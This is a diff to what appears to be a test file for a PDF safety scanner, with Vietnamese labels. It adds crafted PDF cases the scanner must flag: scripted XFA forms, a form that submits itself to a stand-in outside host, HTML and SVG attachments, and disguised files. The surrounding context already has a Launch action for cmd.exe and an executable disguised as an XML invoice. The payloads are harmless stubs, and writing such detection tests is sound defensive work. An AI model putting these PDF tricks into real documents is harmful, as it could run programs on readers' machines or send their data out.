@@ -67,6 +67,11 @@ def named_elsewhere(pdf: Pdf) -> None:
     pdf.Root.OpenAction = Dictionary(S=kind, F="cmd.exe")
 
 
+def dynamic(pdf: Pdf) -> None:
+    form = pdf.make_stream(b'<script contentType="application/x-javascript">app.alert(1)</script>')
+    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)
+
+
 RUNS: dict[str, tuple[Change, str]] = {
     "script": (action(S=Name.JavaScript, JS="app.alert(1)"), "mã lệnh"),
     "script in names": (in_a_tree_of_names, "mã lệnh"),
@@ -75,6 +80,12 @@ RUNS: dict[str, tuple[Change, str]] = {
     "launch named elsewhere": (named_elsewhere, "lệnh mở chương trình"),
     "program": (attach("hoa-don.exe", b"MZ" + bytes(60)), "chương trình đính kèm"),
     "program under another name": (attach("hoa-don.xml", b"MZ" + bytes(60)), "chương trình"),
+    "form that is sent": (action(S=Name.SubmitForm, F="http://h.example/"), "tự gửi dữ liệu"),
+    "form that is filled": (action(S=Name.ImportData, F="a.fdf"), "tự gửi dữ liệu"),
+    "form of XFA": (dynamic, "biểu mẫu động"),
+    "page": (attach("bản đồ.html", b"<script>alert(1)</script>"), "chương trình đính kèm"),
+    "page under another name": (attach("a.xml", b"\n <!DOCTYPE html><script>"), "chương trình"),
+    "picture with a script": (attach("a.svg", b"<svg/>"), "chương trình đính kèm"),
     "macros": (attach("don.DOCM ", b"PK"), "chương trình đính kèm"),
 }
 
